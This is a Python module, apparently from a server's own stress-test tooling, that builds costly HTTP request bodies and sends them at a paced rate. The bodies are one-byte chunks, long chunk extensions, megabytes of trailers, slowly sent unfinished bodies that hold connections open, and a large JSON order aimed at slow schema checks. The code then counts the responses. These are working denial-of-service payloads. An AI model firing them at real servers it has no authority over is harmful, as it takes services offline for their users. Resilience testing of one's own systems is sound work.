"""Bodies that cost much: tiny chunks, long extensions and trailers, unfinished ones, schemas."""

import asyncio
from collections.abc import Sequence

from tools.attack.attacks.wire import Target, hold, pace

#: Time in which the number of bodies of an attack is sent, in seconds.
PERIOD_S = 10.0
POST = b"POST /echo HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
CHUNKED = POST + b"Transfer-Encoding: chunked\r\n\r\n"
TINY_CHUNK, END = b"1\r\na\r\n", b"0\r\n\r\n"
#: Sizes of chunked bodies as sent, in bytes.
SIZES = (1_800_000, 240_000)
EXTENSION = b";a=" + b"b" * 1_000
TRAILER_LINE = b"X-Trailer: " + b"a" * 1_000 + b"\r\n"
PIECE_BYTES = 16_384
ANNOUNCED_BYTES, SENT_BYTES = 900_000, 800_000
#: Pause between two pieces of an unfinished body, in seconds: 100 kB/s.
PIECE_PAUSE_S = 0.16


def tiny_chunks_body(size: int) -> bytes:
    """Return a body of *size* bytes in chunks of one byte."""
    return TINY_CHUNK * (size // len(TINY_CHUNK)) + END


def extensions_body(size: int) -> bytes:
    """Return a body of *size* bytes in chunks of one byte with extensions of 1 kB."""
    chunk = b"1" + EXTENSION + b"\r\na\r\n"
    return chunk * (size // len(chunk)) + END


def trailers_body(size: int) -> bytes:
    """Return a body of one chunk with *size* bytes of trailers."""
    return b"1\r\na\r\n0\r\n" + TRAILER_LINE * (size // len(TRAILER_LINE)) + b"\r\n"


async def tiny_chunks(target: Target, number: int) -> None:
    """Send bodies of 240 kB and 1.8 MB in chunks of one byte."""
    await _post(target, number, [tiny_chunks_body(size) for size in SIZES])


async def chunk_extensions(target: Target, number: int) -> None:
    """Send chunks of one byte with extensions of 1 kB."""
    await _post(target, number, [extensions_body(size) for size in SIZES])


async def trailers(target: Target, number: int) -> None:
    """Send 240 kB and 1.8 MB of trailers behind one chunk."""
    await _post(target, number, [trailers_body(size) for size in SIZES])


async def unfinished(target: Target, number: int) -> None:
    """Announce bodies of 900 kB, send 800 kB of each, and hold."""
    head = POST + b"Content-Length: %d\r\n\r\n" % ANNOUNCED_BYTES

    async def one(_: int) -> None:
        with await target.connect() as connection:
            await connection.send(head)
            for _ in range(0, SENT_BYTES, PIECE_BYTES):
                await connection.send(b"a" * PIECE_BYTES)
                await asyncio.sleep(PIECE_PAUSE_S)
            await connection.wait_until_closed()

    await hold(target, number, one)


async def slow_schema(target: Target, number: int) -> None:
    """Send orders of 880 kB that a JSON Schema checks item by item."""
    body = b'{"items": [' + b",".join([b'{"item": "x", "quantity": 1}'] * 30_000) + b"]}"
    head = b"POST /checked HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
    request = head + b"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body)
    await _paced(target, number, [request + body])


async def _post(target: Target, number: int, bodies: Sequence[bytes]) -> None:
    await _paced(target, number, [CHUNKED + body for body in bodies])


async def _paced(target: Target, number: int, requests: Sequence[bytes]) -> None:
    async def one(which: int) -> None:
        with await target.connect() as connection:
            async with asyncio.timeout(60):
                await connection.send(requests[which % len(requests)])
            received = await connection.receive_all(60)
            target.counts[received[9:12].decode("latin-1") or "no response"] += 1

    await pace(target, number / PERIOD_S, one)
